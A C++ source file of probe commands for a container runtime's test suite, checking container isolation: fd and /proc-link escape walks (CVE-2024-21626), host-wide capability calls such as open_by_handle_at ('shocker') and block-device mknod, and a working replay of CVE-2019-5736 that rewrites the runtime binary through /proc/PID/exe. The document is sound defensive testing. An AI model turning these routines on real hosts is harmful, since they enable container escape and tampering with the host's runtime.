// The reliability tests' probe commands (tests/faults, issue 10): a real
// crash, the fd tricks for getting out of a container, and the host-wide
// privileges a container must not have.
#include <dirent.h>
#include <fcntl.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <iostream>
#include <string>
#include <vector>

#include "probe.hpp"

namespace {

using probe::Args;

// "allowed", "denied EPERM", or "unsupported" when this kernel lacks the call.
std::string outcome(long rc) {
    if (rc != -1) return "allowed";
    if (errno == ENOSYS) return "unsupported";
    const char* name = ::strerrorname_np(errno);
    return std::string("denied ") + (name ? name : std::to_string(errno));
}

// A fault, not kill(2): the kernel forces SIGSEGV even on a PID 1, which
// ignores signals it has no handler for.
int cmd_crash(const Args&) {
    std::cout << "ready " << ::getpid() << std::endl;
    void* page = ::mmap(nullptr, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) return 1;
    *static_cast<volatile char*>(page) = 1;
    return 0;
}

// Whether `relative` (a host path without its leading '/') can be reached
// from directory fd `dir` by walking up with "..": from a directory of the
// host's tree it can, from anything under the container's root it cannot.
bool reachable_from(int dir, const std::string& relative) {
    std::string up;
    for (int i = 0; i < 64; ++i) up += "../";
    struct stat st {};
    return ::fstatat(dir, (up + relative).c_str(), &st, 0) == 0;
}

// The fd tricks: an fd the runtime left open (CVE-2024-21626), and the
// /proc links of every process we can see (cwd, root, fd/*): any of them
// that points at a directory outside our root leads to MARKER.
int cmd_fd_escape(const Args& args) {
    const std::string relative = args.at(0).substr(1);
    std::vector<std::string> links;
    DIR* proc = ::opendir("/proc");
    if (!proc) return 1;
    while (dirent* e = ::readdir(proc)) {
        if (std::atoi(e->d_name) <= 0 && std::string(e->d_name) != "self") continue;
        const std::string base = std::string("/proc/") + e->d_name;
        links.push_back(base + "/cwd");
        links.push_back(base + "/root");
        if (DIR* fds = ::opendir((base + "/fd").c_str())) {
            while (dirent* f = ::readdir(fds))
                if (f->d_name[0] != '.') links.push_back(base + "/fd/" + f->d_name);
            ::closedir(fds);
        }
    }
    ::closedir(proc);
    int tried = 0, reached = 0;
    for (const auto& link : links) {
        int fd = ::open(link.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) continue;  // not a directory: nothing to walk up from
        ++tried;
        if (reachable_from(fd, relative)) {
            ++reached;
            std::cout << "escape.fd: reached through " << link << "\n";
        }
        ::close(fd);
    }
    for (int fd = 3; fd < 1024; ++fd) {  // inherited fds, whatever they are
        struct stat st {};
        if (::fstat(fd, &st) != 0 || !S_ISDIR(st.st_mode)) continue;
        ++tried;
        if (reachable_from(fd, relative)) {
            ++reached;
            std::cout << "escape.fd: reached through inherited fd " << fd << "\n";
        }
    }
    std::cout << "escape.fd.tried: " << tried << "\n";
    std::cout << "escape.fd: " << (reached ? "reached" : "blocked") << "\n";
    return 0;
}

// Calls the kernel checks against the host's user namespace (capable(),
// not ns_capable()), each harmless when allowed: they tell whether any
// capability of ours counts on the host. "allowed" is right for a root
// container without --userns, which keeps root's capabilities.
int cmd_hostcaps(const Args&) {
    // CAP_SYS_TIME: set the time zone to what it is (no clock is touched).
    struct timezone tz {};
    ::syscall(SYS_gettimeofday, nullptr, &tz);
    std::cout << "cap.sys_time: " << outcome(::syscall(SYS_settimeofday, nullptr, &tz)) << "\n";
    // CAP_SYS_MODULE is checked before the (empty) image is looked at.
    long rc = ::syscall(SYS_init_module, nullptr, 0UL, "");
    if (rc == -1 && errno != EPERM && errno != ENOSYS) rc = 0;  // past the check: allowed
    std::cout << "cap.sys_module: " << outcome(rc) << "\n";
    // CAP_SYS_RAWIO: access to an unused I/O port, dropped again at once.
    rc = ::ioperm(0x80, 1, 1);
    if (rc == 0) ::ioperm(0x80, 1, 0);
    std::cout << "cap.sys_rawio: " << outcome(rc) << "\n";
    // CAP_DAC_READ_SEARCH: open_by_handle_at(2) opens any inode of a file
    // system by its handle, bypassing the root ("shocker", 2014).
    alignas(file_handle) unsigned char storage[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
    auto* handle = reinterpret_cast<file_handle*>(storage);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id = 0;
    rc = ::name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0);
    if (rc == 0) {
        int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        rc = ::open_by_handle_at(root, handle, O_RDONLY | O_CLOEXEC);
        if (rc >= 0) ::close(static_cast<int>(rc));
        ::close(root);
    }
    std::cout << "cap.dac_read_search: " << outcome(rc) << "\n";
    // CAP_MKNOD for a block device (the host's disks), in our own /tmp.
    const std::string node = "/tmp/probe-hostcaps-" + std::to_string(::getpid());
    rc = ::mknod(node.c_str(), S_IFBLK | 0600, ::makedev(7, 0));
    if (rc == 0) ::unlink(node.c_str());
    std::cout << "cap.mknod: " << outcome(rc) << "\n";
    // A host-wide sysctl, opened for writing (and closed unwritten).
    int fd = ::open("/proc/sys/vm/drop_caches", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) ::close(fd);
    std::cout << "cap.sysctl: " << outcome(fd) << "\n";
    return 0;
}

// CVE-2019-5736 overwrote the host's runtime through /proc/PID/exe of a
// runtime process inside the container: try to open PATH for writing
// (nothing is written; the fd is closed at once).
int cmd_open_write(const Args& args) {
    int fd = ::open(args.at(0).c_str(), O_WRONLY | O_CLOEXEC);
    std::cout << "open-write: " << outcome(fd) << "\n";
    if (fd >= 0) ::close(fd);
    return 0;
}

// argv[0] of process `pid` ("" when it is gone or unreadable).
std::string first_argument(const std::string& pid) {
    int fd = ::open(("/proc/" + pid + "/cmdline").c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return {};
    char text[256] = {};
    ssize_t n = ::read(fd, text, sizeof text - 1);
    ::close(fd);
    return n > 0 ? std::string(text) : std::string();
}

// The attacker's half of CVE-2019-5736, replayed on a copy of the runtime.
// The container made its /bin/sh "#!/proc/self/exe --pid-file=FIFO": a
// runtime process inside that runs /bin/sh re-runs its own binary here
// (argv[0] "/proc/self/exe"), which blocks reading FIFO. Keep an O_PATH fd
// to its /proc/PID/exe, let it go (a line that is no PID), then try for
// 10 s (ETXTBSY while the runtime still runs) to open that fd for writing
// and write to it: that would rewrite the file the runtime ran from.
int cmd_cve_2019_5736(const Args& args) {
    std::cout << "ready " << ::getpid() << std::endl;
    int fifo = ::open(args.at(0).c_str(), O_WRONLY | O_CLOEXEC);  // blocks for the runtime
    if (fifo < 0) {
        std::cout << "cve: failed: open(" << args.at(0) << "): " << std::strerror(errno) << "\n";
        return 1;
    }
    int exe = -1;
    std::string found;
    DIR* proc = ::opendir("/proc");
    while (dirent* entry = proc ? ::readdir(proc) : nullptr) {
        const std::string pid = entry->d_name;
        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
        if (first_argument(pid) != "/proc/self/exe") continue;
        exe = ::open(("/proc/" + pid + "/exe").c_str(), O_PATH | O_CLOEXEC);
        found = pid + " (" + outcome(exe) + ")";
        break;
    }
    if (proc) ::closedir(proc);
    std::cout << "cve: runtime inside: " << (found.empty() ? "not found" : "PID " + found) << "\n";
    const char line[] = "no PID\n";
    if (::write(fifo, line, sizeof line - 1) < 0) std::cout << "cve: write(fifo) failed\n";
    ::close(fifo);
    const std::string path = "/proc/self/fd/" + std::to_string(exe);
    for (int attempt = 1; exe >= 0 && attempt <= 200; ++attempt) {
        int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno == ETXTBSY) {  // still running somewhere: wait
            ::usleep(50 * 1000);
            continue;
        }
        if (fd < 0) {
            std::cout << "cve: open for writing: " << outcome(fd) << "\n";
            return 0;
        }
        const char payload[] = "#!/bin/sh\necho the container rewrote the runtime\n";
        ssize_t n = ::write(fd, payload, sizeof payload - 1);
        std::cout << "cve: write: "
                  << (n >= 0 ? "wrote " + std::to_string(n) + " bytes" : outcome(n)) << "\n";
        ::close(fd);
        return 0;
    }
    if (exe >= 0) std::cout << "cve: open for writing: busy for 10 s\n";
    return 0;
}

const probe::Register r_crash("crash", cmd_crash, "print 'ready PID', then fault (SIGSEGV)");
const probe::Register r_fd_escape("fd-escape", cmd_fd_escape,
                                  "MARKER: walk up from every fd and /proc link toward MARKER");
const probe::Register r_open_write("open-write", cmd_open_write,
                                   "PATH: try to open PATH for writing (writes nothing)");
const probe::Register r_cve("cve-2019-5736", cmd_cve_2019_5736,
                            "FIFO: replay CVE-2019-5736 against a runtime run as /bin/sh");
const probe::Register r_hostcaps("hostcaps", cmd_hostcaps,
                                 "try host-wide privileged calls, each harmless when allowed");

}  // namespace
